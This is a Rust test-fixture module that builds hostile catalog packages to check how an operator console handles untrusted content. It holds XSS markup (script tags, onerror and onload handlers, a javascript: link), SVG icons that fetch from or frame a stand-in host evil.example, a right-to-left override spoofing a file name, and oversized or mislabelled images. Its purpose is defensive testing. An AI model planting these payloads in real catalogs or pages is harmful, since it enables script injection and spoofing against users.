//! Packages that attack: one for each text, and for each picture.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use olm_types::api::{AppLink, ClusterServiceVersion, Icon, Maintainer};
use serde_json::json;

use crate::builders::{Bundle, Package, csv};

/// The texts that the console's own tests read, each behind a line with its name.
const TEXTS: &str = include_str!("../../../../../../olm-console/src/markdown/hostile.txt");

/// Markup for where a name or a word is expected.
const MARKUP: &str =
    "\"'><script>window.__attacked=1;alert(1)</script><img src=x onerror=alert(1)>";

/// What is around the content of a picture.
const SVG: &str = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='64' \
                   height='64' ATTRIBUTES>CONTENT<circle cx='32' cy='32' r='30'/></svg>";

/// Packages whose picture acts when it is opened as a page, if it may.
pub(super) const PICTURES: [&str; 4] = ["svg-script", "svg-onload", "svg-foreign", "svg-image"];

/// Bytes of a picture that a catalog may have and a page does not show.
const LARGE: usize = 1 << 20;

/// Bytes of one that is too large for the service of catalogs.
const LARGEST: usize = 30 << 20;

/// Names of all packages of [`attacks`].
pub(super) fn names() -> Vec<String> {
    let texts = texts().map(|(name, _)| name);
    let pictures = pictures().into_iter().map(|(name, ..)| name.to_owned());
    let words = ["markup", "direction", "long"].map(str::to_owned);
    texts.chain(pictures).chain(words).collect()
}

/// What is served.
pub(super) fn attacks() -> Vec<Package> {
    let texts = texts()
        .map(|(name, text)| package(&name, |csv| csv.spec.description = Some(text.to_owned())));
    let pictures = pictures().into_iter().map(|(name, media, bytes)| {
        package(name, move |csv| csv.spec.icon = vec![icon(media, &bytes)])
    });
    let direction = package("direction", |csv| {
        csv.spec.display_name = "\u{202e}gpj.exe\u{2066}".to_owned();
    });
    let long = package("long", |csv| {
        csv.spec.display_name = "W".repeat(20_000);
        csv.spec.description = Some("a ".repeat(100_000));
    });
    texts.chain(pictures).chain([markup(), direction, long]).collect()
}

/// What is read from a folder only: its picture is larger than what catalogs serve.
pub(super) fn large() -> Package {
    package("large", |csv| csv.spec.icon = vec![icon("image/png", &png(LARGEST))])
}

fn texts() -> impl Iterator<Item = (String, &'static str)> {
    let parts = TEXTS.split("%% ").skip(1).filter_map(|part| part.split_once('\n'));
    parts.map(|(name, text)| (format!("text-{}", name.replace('_', "-")), text))
}

/// Name, what it says it is, and what it holds.
fn pictures() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let svg = |attributes: &str, content: &str| {
        SVG.replace("ATTRIBUTES", attributes).replace("CONTENT", content).into_bytes()
    };
    let script = "<script>window.__attacked=1;alert(1);fetch('https://evil.example/i')</script>";
    let foreign = "<foreignObject width='60' height='60'><iframe xmlns='http://www.w3.org/1999/xhtml' \
                   src='https://evil.example/f'></iframe></foreignObject>";
    let image = "<image xlink:href='https://evil.example/p.png' width='9' height='9'/>";
    let style = "<style>@import url(https://evil.example/s.css); circle { fill: url(https://evil.example/x) }</style>";
    let html = || script.as_bytes().to_vec();
    let kind = "image/svg+xml";
    vec![
        ("svg-script", kind, svg("", script)),
        ("svg-onload", kind, svg("onload='window.__attacked=1;alert(1)'", "")),
        ("svg-foreign", kind, svg("", foreign)),
        ("svg-image", kind, svg("", image)),
        ("svg-style", kind, svg("", style)),
        ("html-picture", "text/html", html()),
        ("html-as-svg", kind, html()),
        ("html-as-png", "image/png", html()),
        ("large-picture", "image/png", png(LARGE)),
    ]
}

/// Markup wherever there is a text, apart from the description.
fn markup() -> Package {
    let version = csv("markup.v1.0.0", "1.0.0").with(|csv| {
        let text = || MARKUP.to_owned();
        csv.spec.display_name = text();
        csv.spec.maturity = Some(text());
        csv.spec.keywords = vec![text()];
        let link = AppLink { name: Some(text()), url: Some("javascript:alert(1)".to_owned()) };
        csv.spec.provider = Some(link.clone());
        csv.spec.links = vec![link];
        csv.spec.maintainers = vec![Maintainer { name: Some(text()), email: Some(text()) }];
        let keys = ["capabilities", "categories", "description"];
        csv.metadata.annotations = Some(keys.map(|key| (key.to_owned(), text())).into());
    });
    let package = Package::new("markup").channel(MARKUP, vec![Bundle::new("1.0.0", &version)]);
    package.deprecated(json!({"schema": "olm.package"}), MARKUP)
}

fn package(name: &str, change: impl FnOnce(&mut ClusterServiceVersion)) -> Package {
    let version = csv(&format!("{name}.v1.0.0"), "1.0.0").with(change);
    Package::single(name, Bundle::new("1.0.0", &version))
}

fn icon(media: &str, bytes: &[u8]) -> Icon {
    Icon { base64data: STANDARD.encode(bytes), mediatype: media.to_owned() }
}

/// Something that begins as a picture does.
fn png(size: usize) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    bytes.resize(size, b'a');
    bytes
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn every_package_has_a_name_of_its_own() {
        let names = names();
        assert_eq!(names.iter().collect::<BTreeSet<_>>().len(), names.len());
        assert_eq!(attacks().len(), names.len());
        assert!(PICTURES.iter().all(|one| names.iter().any(|name| name == one)));
    }
}
